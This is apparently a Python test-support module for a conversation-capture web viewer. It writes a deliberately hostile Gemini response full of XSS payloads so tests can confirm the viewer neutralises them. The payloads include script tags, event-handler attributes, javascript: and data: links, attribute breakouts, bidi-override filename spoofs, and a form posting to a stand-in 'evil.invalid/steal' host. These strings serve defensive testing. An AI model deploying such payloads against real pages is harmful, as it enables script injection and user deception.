"""The web viewer's test support: a store of the project's captures and one hostile
capture, and `convstore serve` as a real process.

The hostile capture is a Gemini `generateContent` exchange written here from Google's
documented format, every string an attack on a page that would render it: script tags,
event-handler attributes, `javascript:` and `data:` links, attribute breakouts, bidi
overrides, and a Search Suggestion that tries to script, restyle and navigate its parent.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Final

from convstore.adapters.cli import main

ROOT: Final = Path(__file__).resolve().parents[1]
EXAMPLES: Final = ROOT / "examples"
CONVSTORE: Final = [sys.executable, "-m", "convstore.adapters.cli"]

CAPTURES: Final = (
    ("anthropic", "anthropic/web_search_citations/1"),
    ("google", "google/grounding_search_stream/1"),
)
"""Captures every viewer store holds: cited web search on Anthropic and on Gemini."""

PLANTED: Final = "zanzibarquokka"
"""A word only the hostile conversation holds (search finds it)."""
BIDI: Final = "\u202e"
"""RIGHT-TO-LEFT OVERRIDE: never reaches a page as itself."""
SUGGESTION: Final = (
    "<style>.chip{color:#1a73e8;border:1px solid #ddd;border-radius:16px;padding:2px 8px}"
    "body{background:#fff}</style>"
    '<div class="container"><a class="chip" href="https://www.google.com/search?q=quokka"'
    ' target="_blank">quokka facts</a></div>'
    "<script>parent.document.body.innerHTML='PWNED';alert('suggestion')</script>"
    '<img src="https://evil.invalid/pixel.png" onerror="alert(\'img\')">'
    '<iframe src="https://evil.invalid/frame"></iframe>'
    "<a href=\"javascript:top.location='https://evil.invalid/'\">javascript link</a>"
    '<form action="https://evil.invalid/steal"><button autofocus onfocus="alert(\'focus\')">'
    "b</button></form>"
)
USER_TEXT: Final = (
    f"{PLANTED} <script>alert('user')</script><img src=x onerror=alert('user-img')> {BIDI}txt.exe"
)
TEXTS: Final = (
    "Quokkas <script>alert('text')</script> live on Rottnest. ",
    f'<a href="javascript:alert(1)">click</a> {BIDI}gnp.exe <b onmouseover=alert(2)>x</b>',
)
SOURCES: Final = (
    ("javascript:alert('source')", "<img src=x onerror=alert('title')>"),
    ("data:text/html,<script>alert('data')</script>", "data link"),
    ('https://evil.invalid/" onmouseover="alert(3)', '" onfocus="alert(4)" autofocus x="'),
    ("https://example.com/quokka", "example.com"),
)


def write_hostile_capture(folder: Path) -> tuple[Path, Path]:
    """The hostile exchange's request and response files, in `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    request = {
        "contents": [{"role": "user", "parts": [{"text": USER_TEXT}]}],
        "tools": [{"googleSearch": {}}],
    }
    first, second = (text.encode() for text in TEXTS)
    supports = [
        {
            "segment": {"endIndex": len(first), "text": TEXTS[0]},
            "groundingChunkIndices": [0, 1],
        },
        {
            "segment": {
                "startIndex": len(first),
                "endIndex": len(first) + len(second),
                "text": TEXTS[1],
            },
            "groundingChunkIndices": [2, 3],
        },
    ]
    response = {
        "candidates": [
            {
                "content": {"role": "model", "parts": [{"text": text} for text in TEXTS]},
                "finishReason": "STOP",
                "groundingMetadata": {
                    "groundingChunks": [{"web": {"uri": u, "title": t}} for u, t in SOURCES],
                    "groundingSupports": supports,
                    "webSearchQueries": ["<script>alert('query')</script> quokka"],
                    "searchEntryPoint": {"renderedContent": SUGGESTION},
                },
                "index": 0,
            }
        ],
        "usageMetadata": {"promptTokenCount": 12, "candidatesTokenCount": 40},
        "modelVersion": "gemini-2.5-flash",
        "responseId": "hostile-viewer-1",
    }
    request_file, response_file = folder / "1.request.json", folder / "1.response.json"
    request_file.write_text(json.dumps(request))
    response_file.write_text(json.dumps(response))
    return request_file, response_file


def ingest(db: Path | str, provider: str, request: Path, response: Path) -> None:
    """`convstore ingest` one capture into `db` (a SQLite file, or a store URL)."""
    url = db if isinstance(db, str) else f"sqlite:///{db}"
    command = ["ingest", "--provider", provider, "--request", str(request), str(response)]
    assert main(["--db", url, *command]) == 0


def capture_files(name: str) -> tuple[Path, Path]:
    """An example capture's request and response files (`provider/folder/N`)."""
    folder, number = (EXAMPLES / name).parent, (EXAMPLES / name).name
    response = next(folder.glob(f"{number}.response.*"))
    return folder / f"{number}.request.json", response


def fill(url: str, folder: Path, *, index: bool = True) -> None:
    """Record `CAPTURES` and the hostile capture (written in `folder`) into the store at
    `url`, and index them unless told not to."""
    for provider, name in CAPTURES:
        ingest(url, provider, *capture_files(name))
    ingest(url, "google", *write_hostile_capture(folder / "hostile"))
    if index:
        assert main(["--db", url, "project"]) == 0


def viewer_store(tmp_path: Path, *, index: bool = True) -> Path:
    """A SQLite store holding `CAPTURES` and the hostile capture (indexed unless told not)."""
    db = tmp_path / "viewer.db"
    fill(f"sqlite:///{db}", tmp_path, index=index)
    return db


@contextmanager
def viewer_process(db: Path, *args: str) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """`convstore serve` on a free port; (the process, its base URL)."""
    process = subprocess.Popen(
        [*CONVSTORE, "--db", f"sqlite:///{db}", "serve", "--listen", "127.0.0.1:0", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    try:
        line = process.stdout.readline() if process.stdout else ""
        assert line.startswith("convstore viewer on http://127.0.0.1:"), line + (
            process.stderr.read() if process.stderr and process.poll() else ""
        )
        yield process, line.split()[3]
    finally:
        if process.poll() is None:
            process.kill()
        process.wait(timeout=30)
